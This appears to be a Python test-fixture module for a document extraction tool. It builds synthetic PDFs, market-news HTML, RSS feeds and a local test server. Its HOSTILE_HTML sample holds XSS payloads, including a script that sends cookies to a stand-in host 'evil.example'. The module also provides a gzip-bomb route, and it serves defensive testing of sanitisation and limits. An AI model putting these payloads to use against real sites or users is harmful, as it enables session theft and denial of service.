"""Sample inputs built in code: PDFs written byte by byte, HTML pages, and
article prose written for these tests (no published text is copied)."""

from __future__ import annotations

import gzip
import io
import threading
import time
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

ARTICLE = (
    "Tokyo shares extended their run this week as investors bet on fiscal support.\n\n"
    "Toyota fell 3.2% on Tuesday after the yen firmed, while Advantest jumped more than 10% "
    "over the week on demand for chip testers.\n\n"
    "Table 2. Moves so far this year (YTD 2026)\n"
    "Kioxia Holdings ~120% Memory prices\n"
    "IHI Corp +45% Defense orders\n"
    "Nikkei 225 +5% Broad buying\n"
)


def make_pdf(pages: list[str] | None = None, *, text_layer: bool = True, title: str | None = None) -> bytes:
    """A valid PDF with one text line per line of each page string (Helvetica),
    or, with text_layer=False, pages that only draw shapes, like a scan."""
    pages = pages if pages is not None else [ARTICLE]
    objects: list[bytes] = []

    def add(body: bytes) -> int:
        objects.append(body)
        return len(objects)

    catalog = add(b"")  # filled in once the page tree exists
    tree = add(b"")
    font = add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
    kids = []
    for page_text in pages:
        if text_layer:
            lines = [b"BT", b"/F1 11 Tf", b"14 TL", b"50 780 Td"]
            for line in page_text.split("\n"):
                escaped = line.encode("cp1252", "replace").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
                lines.append(b"(" + escaped + b") Tj T*")
            lines.append(b"ET")
        else:
            lines = [b"0.5 g", b"50 50 500 700 re f", b"0 g", b"60 60 100 20 re f"]
        stream = b"\n".join(lines)
        content = add(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
        kids.append(add(
            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 842] /Resources << /Font << /F1 %d 0 R >> >> "
            b"/Contents %d 0 R >>" % (tree, font, content)
        ))
    objects[catalog - 1] = b"<< /Type /Catalog /Pages %d 0 R >>" % tree
    objects[tree - 1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
        b" ".join(b"%d 0 R" % kid for kid in kids), len(kids))
    info = add(b"<< /Title (%s) >>" % title.encode("latin-1")) if title else None

    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    trailer = b"<< /Size %d /Root %d 0 R" % (len(objects) + 1, catalog)
    if info:
        trailer += b" /Info %d 0 R" % info
    out.write(b"trailer\n" + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def encrypt_pdf(data: bytes, password: str = "secret", algorithm: str = "RC4-128") -> bytes:
    """An empty ``password`` makes a PDF that opens freely but is protected
    against editing (common for published reports)."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(data)))
    writer.encrypt(user_password=password, owner_password="owner-" + password, algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def page(body: str, head: str = "", title: str = "Market report") -> str:
    return (
        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{title}</title>{head}</head>"
        f"<body><nav><a href='/'>Home</a> <a href='/markets'>Markets</a></nav>"
        f"<article>{body}</article><footer>Copyright 2026 Example Media. All rights reserved.</footer>"
        f"</body></html>"
    )


HOSTILE_HTML = page(
    "<h1>Chip stocks lead Tokyo</h1>"
    "<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>"
    "<p onclick=\"alert('clicked')\" onmouseover=\"steal()\">Tokyo Electron rose 4.1% on Monday as "
    "orders for etching tools picked up across the region.</p>"
    "<iframe src='https://evil.example/frame' onload='pwn()'></iframe>"
    "<img src=x onerror=\"alert('img')\">"
    "<p>Advantest added 2.5% over the session, helped by upbeat comments from a large customer.</p>"
    "<noscript>Enable JavaScript to read more</noscript>"
    "<style>body { background: url(javascript:alert(1)) }</style>"
    "<p><a href=\"javascript:alert('link')\">The Topix</a> gained 1.1% by the close.</p>",
    head="<script src='https://evil.example/a.js'></script>",
)

BOILERPLATE_HTML = (
    "<!DOCTYPE html><html><head><title>Example Media</title></head><body>"
    "<nav><a href='/'>Home</a> | <a href='/m'>Markets</a> | <a href='/a'>About</a></nav>"
    "<div class='cookie'>We use cookies to improve your experience on our site. Accept all cookies or manage settings.</div>"
    "<div class='sidebar'><h3>Most read</h3><ul><li><a href='/x'>Markets wrap</a></li>"
    "<li><a href='/y'>Yen outlook</a></li></ul></div>"
    "<footer>Copyright 2026 Example Media. All rights reserved. Terms of use. Privacy policy.</footer>"
    "</body></html>"
)


# --- a local web server the tests start (no real network) ----------------------


def reply(body: bytes | str, content_type: str = "text/html; charset=utf-8", status: int = 200,
          headers: dict | None = None, delay: float = 0.0, drip: float = 0.0, declare_length: bool = True):
    """A route: what the server answers. ``delay`` sleeps before answering;
    ``drip`` sends the body one byte at a time with that pause; without
    ``declare_length`` the body simply runs until the connection closes."""
    data = body.encode("utf-8") if isinstance(body, str) else body
    return {"body": data, "type": content_type, "status": status, "headers": headers or {},
            "delay": delay, "drip": drip, "length": declare_length and not drip}


def redirect(location: str, status: int = 302):
    return reply(b"", status=status, headers={"Location": location})


def gzip_bomb(megabytes: int) -> dict:
    return reply(gzip.compress(b"\0" * (megabytes * 1024 * 1024)), headers={"Content-Encoding": "gzip"})


@contextmanager
def serve(routes: dict, hits: list | None = None):
    """Serve ``routes`` (path -> reply) on 127.0.0.1; yields the base URL.
    ``routes`` may be filled in after start; each request path is appended
    to ``hits``."""
    hits = hits if hits is not None else []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            route = routes.get(self.path)
            if route is None:
                route = reply("not here", status=404)
            if route["delay"]:
                time.sleep(route["delay"])
            etag = route["headers"].get("ETag")
            if etag and self.headers.get("If-None-Match") == etag:
                self.send_response(304)
                self.send_header("ETag", etag)
                self.end_headers()
                return
            try:
                self.send_response(route["status"])
                self.send_header("Content-Type", route["type"])
                if route["length"]:
                    self.send_header("Content-Length", str(len(route["body"])))
                for key, value in route["headers"].items():
                    self.send_header(key, value)
                self.end_headers()
                if route["drip"]:
                    for byte in route["body"]:
                        self.wfile.write(bytes([byte]))
                        self.wfile.flush()
                        time.sleep(route["drip"])
                else:
                    self.wfile.write(route["body"])
            except (BrokenPipeError, ConnectionResetError):
                pass

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def rss(items: list[tuple[str, str, str]], title: str = "Example Markets") -> str:
    """An RSS 2.0 document; items are (title, link, RFC 2822 date)."""
    entries = "".join(
        f"<item><title>{t}</title><link>{link}</link><pubDate>{when}</pubDate>"
        f"<description>Short teaser.</description></item>"
        for t, link, when in items
    )
    return (f"<?xml version='1.0' encoding='utf-8'?><rss version='2.0'><channel><title>{title}</title>"
            f"<link>https://example.com/</link><description>Markets</description>{entries}</channel></rss>")


def make_layout_pdf(pages: list[list[tuple[float, float, str, float]]], title: str | None = None) -> bytes:
    """A PDF whose text runs sit where a layout program puts them: each run is
    (x, y from the top of an A4 page, text, font size), written in the order
    given, as word processors and report generators write them (a column at a
    time, a table cell at a time). Helvetica-Bold for runs whose size is 13 or
    more (headings)."""
    objects: list[bytes] = []

    def add(body: bytes) -> int:
        objects.append(body)
        return len(objects)

    catalog, tree = add(b""), add(b"")
    regular = add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
    bold = add(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold /Encoding /WinAnsiEncoding >>")
    kids = []
    for runs in pages:
        lines = []
        for x, y, text, size in runs:
            escaped = text.encode("cp1252", "replace").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
            font = b"/F2" if size >= 13 else b"/F1"
            lines.append(b"BT %s %g Tf 1 0 0 1 %g %g Tm (%s) Tj ET" % (font, size, x, 842 - y, escaped))
        stream = b"\n".join(lines)
        content = add(b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream")
        kids.append(add(
            b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 %d 0 R /F2 %d 0 R >> >> "
            b"/Contents %d 0 R >>" % (tree, regular, bold, content)))
    objects[catalog - 1] = b"<< /Type /Catalog /Pages %d 0 R >>" % tree
    objects[tree - 1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
        b" ".join(b"%d 0 R" % kid for kid in kids), len(kids))
    info = add(b"<< /Title (%s) >>" % title.encode("latin-1")) if title else None
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    trailer = b"<< /Size %d /Root %d 0 R" % (len(objects) + 1, catalog)
    if info:
        trailer += b" /Info %d 0 R" % info
    out.write(b"trailer\n" + trailer + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def column_runs(paragraphs: list[str], x: float, top: float, width_chars: int, size: float = 9.5,
                leading: float = 12.5) -> tuple[list[tuple[float, float, str, float]], float]:
    """Wrap paragraphs into a column of lines at (x, top); returns the runs and
    the y below the last line."""
    import textwrap

    runs, y = [], top
    for paragraph in paragraphs:
        for line in textwrap.wrap(paragraph, width_chars):
            runs.append((x, y, line, size))
            y += leading
        y += leading * 0.6
    return runs, y


def scanned_pdf() -> bytes:
    """An image-only PDF as a scanner or a phone app saves it (PIL writes the
    page as one JPEG image, with no text layer)."""
    from PIL import Image, ImageDraw

    image = Image.new("L", (620, 877), 255)
    draw = ImageDraw.Draw(image)
    for row in range(40):
        draw.rectangle((50, 60 + row * 19, 50 + (row * 37) % 480 + 60, 70 + row * 19), fill=40)
    out = io.BytesIO()
    fixed = time.gmtime(1783641600)   # 2026-07-10: the same bytes on every build
    image.save(out, format="PDF", resolution=75, creationDate=fixed, modDate=fixed)
    return out.getvalue()
